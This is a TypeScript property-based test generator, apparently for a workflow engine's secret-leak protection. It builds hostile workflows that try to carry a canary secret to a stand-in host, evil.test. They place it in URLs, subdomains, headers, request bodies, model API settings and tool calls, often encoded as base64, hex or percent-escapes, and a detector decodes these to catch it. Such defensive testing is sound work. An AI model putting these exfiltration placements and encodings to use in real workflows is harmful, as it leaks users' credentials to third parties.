import { type Arbitrary, constantFrom, integer, oneof, record, tuple } from 'fast-check';
import type { Json } from '../base/index.ts';
import { textToBase64 } from '../effects/secrets/base64.ts';
import { dataExpression, secretExpression } from './hostileExpressions.ts';

/** A secret no one could guess: what a hostile workflow is after. */
export const CANARY = 'Kq7mXv2Rz9Tb4Wn8Jd5Ls3';

/** Where the user allows it to go, and where not. */
export const GOOD_ORIGIN = 'https://good.test';
export const EVIL_ORIGIN = 'https://evil.test';

/** How the good server repeats what it is sent. */
export const ECHOES = {
  plain: (text: string) => text,
  upper: (text: string) => text.toUpperCase(),
  lower: (text: string) => text.toLowerCase(),
  reversed: (text: string) => Array.from(text).reverse().join(''),
  base64: (text: string) => textToBase64(text),
  base64url: (text: string) => textToBase64(`x${text}`).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
  hex: (text: string) => [...utf8(text)].map((byte) => byte.toString(16).padStart(2, '0')).join(''),
  percent: (text: string) => encodeURIComponent(encodeURIComponent(text)).replace(/%../g, (code) => code.toLowerCase()),
  json: (text: string) => JSON.stringify(JSON.stringify(text)),
  html: (text: string) => Array.from(text, (char) => `&#${char.charCodeAt(0)};`).join(''),
  base64OfUpper: (text: string) => textToBase64(text.toUpperCase()),
  base64OfLines: (text: string) => textToBase64(Array.from(text).join('\n')),
  hexOfBase64: (text: string) => [...utf8(textToBase64(text))].map((byte) => byte.toString(16)).join(''),
  percentOfHtml: (text: string) => encodeURIComponent(Array.from(text, (char) => `&#${char.charCodeAt(0)};`).join('')),
  spaced: (text: string) => Array.from(text).join(' '),
  characters: (text: string) => Array.from(text),
  bytes: (text: string) => [...utf8(text)],
} as const satisfies Record<string, (text: string) => Json>;

const ECHO_NAMES = Object.keys(ECHOES);

/** Workflows whose author wants the canary, or to learn whether a guess of it is right. As JSON, which is YAML. */
export function hostileWorkflow(): Arbitrary<string> {
  return record({
    first: stepAt(GOOD_ORIGIN, secretExpression()),
    second: oneof(toolStep(), stepAt(GOOD_ORIGIN, dataExpression('first'))),
    last: stepAt(EVIL_ORIGIN, oneof(secretExpression(), dataExpression('first'), dataExpression('second'))),
    renamed: constantFrom('', 'task', 'workflow'),
    defined: constantFrom(...DEFINED),
  }).map(({ first, second, last, renamed, defined }) => {
    const env = { KEY: '{{ env.KEY }}', API_TOKEN: '{{ env.KEY }}', NOTE: '{{ env.KEY }}' };
    return JSON.stringify({
      ...(renamed === 'workflow' ? { env } : {}),
      ...defined,
      agents: [first, second, last].flatMap(({ agents = [] }, index) =>
        agents.map((agent) => ({ ...agent, id: `agent${index}` })),
      ),
      tasks: [
        { id: 'first', type: 'basic', ...(renamed === 'task' ? { env } : {}), ...used(first, 0), ...follow('second') },
        { id: 'second', type: 'basic', ...used(second, 1), ...follow('last') },
        { id: 'last', type: 'basic', ...used(last, 2) },
      ],
    });
  });
}

const ANY_CALL = { input: { type: 'object' }, output: { type: 'object' } };

/** Definitions that no task names: none of them may act on one. */
const DEFINED: readonly object[] = [
  {},
  {
    tools: [
      {
        id: 'crm',
        use: 'core:http',
        schema: ANY_CALL,
        config: {
          base_url: GOOD_ORIGIN,
          headers: { Authorization: 'Bearer {{ env.KEY }}', 'x-note': '{{ env.KEY }}' },
        },
      },
    ],
  },
  {
    tools: [
      { id: 'crm', use: 'core:http', schema: ANY_CALL, config: { base_url: EVIL_ORIGIN, api_key: '{{ env.KEY }}' } },
    ],
  },
];

/** Continues after success and after an error. */
function follow(next: string): object {
  return { on_success: { next }, on_error: { next, with: { failure: '{{ error }}' } } };
}

interface Step {
  readonly use?: string;
  readonly with?: object;
  readonly config?: object;
  readonly agents?: readonly object[];
}

function used({ agents, ...step }: Step, index: number): object {
  return agents === undefined ? step : { ...step, use: `agent:agent${index}` };
}

/** A call that reaches an origin with something in one of all the places there are. */
function stepAt(origin: string, expression: Arbitrary<string>): Arbitrary<Step> {
  return oneof(httpStep(origin, expression), modelStep(origin, expression));
}

function httpStep(origin: string, expression: Arbitrary<string>): Arbitrary<Step> {
  return tuple(expression, constantFrom(...ECHO_NAMES), integer({ min: 0, max: 21 })).map(([inner, echo, place]) => {
    const text = `{{ ${inner} }}`;
    const host = origin.replace('https://', '');
    const url = `${origin}/${echo}`;
    const places: readonly Step[] = [
      { with: { url: `${text}:x` } },
      { with: { url: `https://${text}.${host}/` } },
      { with: { url: `https://${text}` } },
      { with: { url: `${origin}:${text}/` } },
      { with: { url: `https://${text}@${host}/` } },
      { with: { url: text } },
      { with: { url: `${url}/${text}` } },
      { with: { url: `${url}?${text}=1&q=${text}#${text}` } },
      { with: { url, query: { q: text } } },
      { with: { url, query: { token: text } } },
      { with: { url, headers: { authorization: `Bearer ${text}` } } },
      { with: { url, headers: { 'x-api-key': text } } },
      { with: { url, headers: { 'x-note': text } } },
      { with: { url, method: 'POST', body: text } },
      { with: { url, method: 'POST', json: { api_key: text } } },
      { with: { url, method: 'POST', json: { note: [text] } } },
      { with: { url, method: text } },
      { with: { url, headers: { authorization: `{{ 'Basic ' + base64('me:' + (${inner})) }}` } } },
      { with: { url }, config: { headers: { 'x-api-key': text } } },
      { with: { url: text }, config: { base_url: origin } },
      { with: { url: '/x' }, config: { base_url: `https://${text}.${host}` } },
      { with: { url, response_type: text }, config: { timeout: text } },
    ];
    return { use: 'core:http', ...places[place] };
  });
}

function modelStep(origin: string, expression: Arbitrary<string>): Arbitrary<Step> {
  return tuple(expression, integer({ min: 0, max: 7 })).map(([inner, place]) => {
    const text = `{{ ${inner} }}`;
    const config = { provider: 'openai-compatible', model: 'm', url: `${origin}/v1`, api_key: 'none' };
    const configs: readonly object[] = [
      { ...config, api_key: text },
      { ...config, headers: { 'x-note': text } },
      { ...config, url: `https://${text}.${origin.replace('https://', '')}/v1` },
      { ...config, url: `${origin}/${text}/v1` },
      { ...config, url: text },
      { ...config, model: text },
      { ...config, user: text },
      config,
    ];
    const actions = [{ id: 'do', instructions: place === 7 ? text : 'Repeat.', output: { type: 'object' } }];
    return {
      with: { prompt: place === 6 ? text : 'go' },
      agents: [{ use: 'core:agent', config: configs[place], actions }],
    };
  });
}

/** A built-in that handles what the run got, or the secret itself. */
function toolStep(): Arbitrary<Step> {
  return tuple(oneof(secretExpression(), dataExpression('first')), integer({ min: 0, max: 13 })).map(
    ([inner, tool]) => {
      const text = `{{ ${inner} }}`;
      const tools: readonly Step[] = [
        { use: 'core:log', with: { message: text, token: text } },
        { use: 'core:kv', with: { op: 'set', key: 'k', value: text, token: text } },
        { use: 'core:kv', with: { op: 'set', key: text, value: 1 } },
        { use: 'core:file', with: { op: 'write', path: 'out.txt', text } },
        { use: 'core:file', with: { op: 'read', path: text } },
        { use: 'core:csv', with: { op: 'parse', text, password: text } },
        { use: 'core:html', with: { html: text, token: text } },
        { use: 'core:hash', with: { text, secret: text } },
        { use: 'core:raise', with: { message: text, code: text, details: { token: text } } },
        { use: 'core:validate', with: { value: text, schema: { type: 'number' }, api_key: text } },
        { use: 'core:workflow', with: { file: text, input: { token: text } } },
        { use: 'core:javascript', with: { token: text }, config: { code: 'return JSON.stringify(input)' } },
        { use: `mcp:docs/tool`, with: { token: text } },
        { with: { kept: text, token: text } },
      ];
      return tools[tool] ?? {};
    },
  );
}

/** Whether a text shows enough of the canary to matter, also encoded as {@link ECHOES} does. */
export function showsCanary(text: string, depth = 2): boolean {
  const read = text.toLowerCase().replace(/[^a-z0-9]/g, '');
  if (PARTS.some((part) => read.includes(part))) return true;
  if (depth === 0) return false;
  const decoded = [
    text.replace(/%([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))),
    text.replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code))),
    text.replace(/\d{2,3}(?:,\d{2,3}){7,}/g, (list) => String.fromCharCode(...list.split(',').map(Number))),
    ...[...text.matchAll(/[A-Za-z0-9+/_-]{12,}/g)].flatMap(([token]) => [
      ...[0, 1, 2, 3].map((from) => readBase64(token.slice(from))),
      token.replace(/([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))),
    ]),
  ];
  return decoded.some((each) => each !== text && showsCanary(each, depth - 1));
}

/** Eight characters of the canary from each place, in lower case, forwards and backwards. */
const PARTS: readonly string[] = [CANARY, Array.from(CANARY).reverse().join('')].flatMap((text) =>
  Array.from({ length: text.length - 7 }, (_, from) => text.slice(from, from + 8).toLowerCase()),
);

function utf8(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

/** Whatever is in a text that may be Base64, as Latin-1. */
function readBase64(text: string): string {
  const standard = text.replaceAll('-', '+').replaceAll('_', '/');
  return atob(standard.slice(0, standard.length - (standard.length % 4 === 1 ? 1 : 0)));
}
